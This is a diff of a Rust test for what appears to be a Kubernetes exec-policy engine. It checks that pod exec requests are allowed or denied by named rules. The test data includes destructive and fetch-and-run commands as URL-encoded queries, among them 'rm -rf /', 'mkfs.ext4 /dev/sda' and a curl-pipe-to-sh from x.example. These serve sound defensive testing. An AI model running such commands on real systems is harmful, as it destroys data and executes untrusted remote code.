@@ -1654,7 +1654,7 @@ fn reference_matches_the_module_doc_and_its_examples_work() {
     );
 
     let blocks = reference_yaml_blocks();
-    assert_eq!(blocks.len(), 5, "reference yaml blocks");
+    assert_eq!(blocks.len(), 6, "reference yaml blocks");
     let loaded: Vec<Policy> = blocks
         .iter()
         .enumerate()
@@ -1671,7 +1671,7 @@ fn reference_matches_the_module_doc_and_its_examples_work() {
     let info = request("POST", &uri.to_string());
     let exec = crate::request::ExecRequest::from_uri(&uri);
     let lines = decide(
-        &loaded[4],
+        &loaded[5],
         &RequestContext::new(&info).with_exec(Some(&exec), false),
     )
     .stdin_lines
@@ -1679,6 +1679,62 @@ fn reference_matches_the_module_doc_and_its_examples_work() {
     assert!(lines.check("rm -rf /tmp/x").is_some());
     assert!(lines.check("  curl https://example.com/x.sh").is_some());
     assert!(lines.check("ls -la").is_none());
+    // The exec example: every field of `exec` in use.
+    for (query, want) in [
+        (
+            "command=ls&command=-la&container=debug",
+            Some("read-only-in-debug-sidecar"),
+        ),
+        (
+            "command=%2Fbin%2Fcat&command=%2Fetc%2Fhosts&container=debug",
+            Some("read-only-in-debug-sidecar"),
+        ),
+        ("command=ls&container=app", None),
+        (
+            "command=ls&container=debug&stdin=true",
+            Some("no-interactive-sessions"),
+        ),
+        (
+            "command=rm&command=-rf&command=%2F&container=debug",
+            Some("no-destructive-exec"),
+        ),
+        (
+            "command=%2Fbin%2Frm&command=-fr&command=%2Fdata",
+            Some("no-destructive-exec"),
+        ),
+        (
+            "command=sh&command=-c&command=rm+-rf+%2F",
+            Some("no-destructive-exec"),
+        ),
+        (
+            "command=%2Fsbin%2Fmkfs.ext4&command=%2Fdev%2Fsda",
+            Some("no-destructive-exec"),
+        ),
+        (
+            "command=sh&command=-c&command=curl+-s+https%3A%2F%2Fx.example%2Fi.sh+%7C+sh",
+            Some("no-destructive-exec"),
+        ),
+        (
+            "command=sh&stdin=true&tty=true",
+            Some("no-interactive-sessions"),
+        ),
+    ] {
+        let uri: Uri = format!("/api/v1/namespaces/dev/pods/p/exec?{query}")
+            .parse()
+            .expect("uri");
+        let info = request("POST", &uri.to_string());
+        let exec = crate::request::ExecRequest::from_uri(&uri);
+        let d = decide(
+            &loaded[3],
+            &RequestContext::new(&info).with_exec(Some(&exec), false),
+        );
+        assert_eq!(d.rule.as_deref(), want, "{query}");
+        assert_eq!(
+            d.is_allowed(),
+            want.is_none_or(|r| r.starts_with("read-only")),
+            "{query}"
+        );
+    }
     let c = callers();
     let (agent, ops) = (Some(&c.agent), Some(&c.ops));
     let bad = Some(&c.bad);
@@ -1729,7 +1785,7 @@ fn reference_matches_the_module_doc_and_its_examples_work() {
         let d = decide_as(identity, method, uri, workload, who);
         assert_eq!(d.rule.as_deref(), want, "{method} {uri}");
     }
-    let masking = &loaded[3];
+    let masking = &loaded[4];
     for (method, uri, action, rules) in [
         (
             "GET",
